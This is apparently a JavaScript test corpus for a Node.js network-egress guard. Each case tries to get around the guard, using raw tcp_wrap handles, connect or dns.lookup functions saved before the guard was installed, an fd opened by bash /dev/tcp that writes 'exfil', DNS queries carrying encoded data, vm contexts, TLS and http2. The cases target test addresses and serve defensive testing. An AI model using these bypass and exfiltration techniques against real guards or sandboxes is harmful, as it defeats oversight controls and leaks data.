// Node's internals: raw `tcp_wrap` handles, `new net.Socket({ fd })`, originals captured before
// the guard was installed, `vm` contexts, and the TLS/http2 entry points.
import dns from 'node:dns'
import http2 from 'node:http2'
import net from 'node:net'
import tls from 'node:tls'
import vm from 'node:vm'
import { binding as kitBinding } from '../kit.mjs'

// Finding of the first corpus run (issue 17): unclear error, not an escape.
const RAW_STATUS =
  'a raw handle caller only gets the status UV_EACCES (-13) from connect(): recorded and nothing sent, but no ERR_EGRESS_BLOCKED reaches it'

/** Dial with a raw tcp_wrap handle; `connect` is the method to call (the live one, or a saved one). */
function rawConnect(kit, connect, host, port) {
  const { TCP, TCPConnectWrap, constants } = kitBinding('tcp_wrap')
  const handle = new TCP(constants.SOCKET)
  const req = new TCPConnectWrap()
  return kit.timeout(
    new Promise((resolve, reject) => {
      req.oncomplete = (status) => {
        handle.close()
        if (status < 0)
          reject(Object.assign(new Error(`tcp_wrap connect failed: ${status}`), { errno: status }))
        else resolve('connected')
      }
      const status = connect.call(handle, req, host, port)
      if (typeof status === 'number' && status < 0) reject(new Error(`tcp_wrap connect returned ${status}`))
    }),
  )
}

export default [
  {
    id: 'tcp-wrap-raw',
    title: "process.binding('tcp_wrap'): TCP.prototype.connect on a raw handle, after the guard",
    verdict: 'blocked',
    knownEscape: RAW_STATUS,
    knownFindings: ['unclear'],
    async run({ guard, kit, t }) {
      await guard()
      const { TCP } = kitBinding('tcp_wrap')
      return rawConnect(kit, TCP.prototype.connect, '198.18.0.10', t.port)
    },
  },
  {
    id: 'tcp-wrap-raw-v6',
    title: "process.binding('tcp_wrap'): connect6 to 2001:db8::10 on a raw handle",
    verdict: 'blocked',
    knownEscape: RAW_STATUS,
    knownFindings: ['unclear'],
    async run({ guard, kit, t }) {
      await guard()
      const { TCP } = kitBinding('tcp_wrap')
      return rawConnect(kit, TCP.prototype.connect6, '2001:db8::10', t.port)
    },
  },
  {
    id: 'tcp-wrap-saved-connect',
    title:
      'TCP.prototype.connect saved before the guard, called after it (ADR 0021: the sandbox is the layer)',
    verdict: 'sandbox-only',
    async run({ guard, kit, t }) {
      const saved = kitBinding('tcp_wrap').TCP.prototype.connect
      await guard()
      return rawConnect(kit, saved, '198.18.0.10', t.port)
    },
  },
  {
    id: 'socket-fd-fresh',
    title: 'new net.Socket({ fd }) on a fresh socket of a raw handle, then connect()',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      const { TCP, constants } = kitBinding('tcp_wrap')
      const handle = new TCP(constants.SOCKET)
      handle.bind('0.0.0.0', 0)
      const socket = new net.Socket({ fd: handle.fd })
      return kit.connected(socket.connect(t.port, '198.18.0.10'))
    },
  },
  {
    id: 'socket-fd-inherited',
    title: 'new net.Socket({ fd: 3 }) in a Node child whose fd 3 bash connected (/dev/tcp) before Node ran',
    verdict: 'sandbox-only',
    async run({ guard, kit, t }) {
      await guard()
      const code =
        "const s = new (require('node:net').Socket)({ fd: 3 }); s.write('exfil', () => { console.log('CORPUS-ATTACK {\"value\":\"written\"}'); process.exit(0) })"
      return kit.child(
        'bash',
        ['-c', `exec 3<>/dev/tcp/198.18.0.10/${t.port} && exec "${process.execPath}" -e "$CODE"`],
        {
          env: { ...process.env, CODE: code },
        },
      )
    },
  },
  {
    id: 'saved-socket-connect',
    title: 'net.Socket.prototype.connect saved before the guard, called after it with an IP literal',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      const saved = net.Socket.prototype.connect
      await guard()
      const socket = new net.Socket()
      return kit.connected(saved.call(socket, t.port, '198.18.0.10'))
    },
  },
  {
    id: 'saved-socket-connect-name',
    title: 'net.Socket.prototype.connect saved before the guard, called after it with a name only DNS knows',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      const saved = net.Socket.prototype.connect
      await guard()
      const socket = new net.Socket()
      return kit.connected(saved.call(socket, t.port, 'dns-only.test'))
    },
  },
  {
    id: 'saved-dns-lookup',
    title: 'dns.lookup saved before the guard, called after it for an unknown name (a query leaves)',
    verdict: 'sandbox-only',
    async run({ guard, kit }) {
      const saved = dns.lookup
      await guard()
      return kit.timeout(
        new Promise((resolve, reject) =>
          saved('c2VjcmV0.dns-only.test', (e, a) => (e ? reject(e) : resolve(a))),
        ),
      )
    },
  },
  {
    id: 'saved-dns-lookup-as-option',
    title: 'dns.lookup saved before the guard, passed as the lookup option of net.connect',
    verdict: 'sandbox-only',
    async run({ guard, kit, t }) {
      const saved = dns.lookup
      await guard()
      return kit.tcp({ host: 'dns-only.test', port: t.port, lookup: saved })
    },
  },
  {
    id: 'cares-wrap-raw',
    title: "process.binding('cares_wrap') getaddrinfo called directly (a query leaves)",
    verdict: 'sandbox-only',
    async run({ guard, kit }) {
      await guard()
      const { GetAddrInfoReqWrap, getaddrinfo } = kitBinding('cares_wrap')
      return kit.timeout(
        new Promise((resolve, reject) => {
          const req = new GetAddrInfoReqWrap()
          req.oncomplete = (status, addresses) =>
            status ? reject(new Error(`getaddrinfo ${status}`)) : resolve(addresses)
          getaddrinfo(req, 'c2VjcmV0.dns-only.test', 4, 0, 0)
        }),
      )
    },
  },
  {
    id: 'vm-require',
    title: "vm.runInNewContext with the host's require: net.connect from inside the context",
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      const socket = vm.runInNewContext(`require('node:net').connect(port, '198.18.0.10')`, {
        require: (await import('node:module')).createRequire(import.meta.url),
        port: t.port,
      })
      return kit.connected(socket)
    },
  },
  {
    id: 'vm-process-binding',
    title: 'vm context given `process`: a raw tcp_wrap handle from inside it',
    verdict: 'blocked',
    knownEscape: RAW_STATUS,
    knownFindings: ['unclear'],
    async run({ guard, kit, t }) {
      await guard()
      const connectFromContext = vm.runInNewContext(
        `(function (port, done) {
          const w = process.binding('tcp_wrap')
          const handle = new w.TCP(w.constants.SOCKET)
          const req = new w.TCPConnectWrap()
          req.oncomplete = (status) => done(status)
          try { const s = handle.connect(req, '198.18.0.10', port); if (s < 0) done(s) } catch (e) { done(e) }
        })`,
        { process },
      )
      return kit.timeout(
        new Promise((resolve, reject) =>
          connectFromContext(t.port, (s) =>
            s === 0 ? resolve('connected') : reject(s instanceof Error ? s : new Error(`status ${s}`)),
          ),
        ),
      )
    },
  },
  {
    id: 'vm-fetch',
    title: 'vm context given fetch: a fetch from inside it',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      const text = vm.runInNewContext(`fetch('http://198.18.0.10:' + port + '/').then((r) => r.text())`, {
        fetch,
        port: t.port,
      })
      return kit.timeout(text)
    },
  },
  {
    id: 'tls-connect-ip',
    title: 'tls.connect to 198.18.0.10',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      return kit.connected(tls.connect({ host: '198.18.0.10', port: t.port, rejectUnauthorized: false }))
    },
  },
  {
    id: 'http2-connect',
    title: 'http2.connect to http://remote.test',
    verdict: 'blocked',
    async run({ guard, kit, t }) {
      await guard()
      const session = http2.connect(`http://remote.test:${t.port}`)
      return kit.timeout(
        new Promise((resolve, reject) => {
          session.on('connect', () => {
            session.destroy()
            resolve('connected')
          })
          session.on('error', reject)
        }),
      )
    },
  },
]
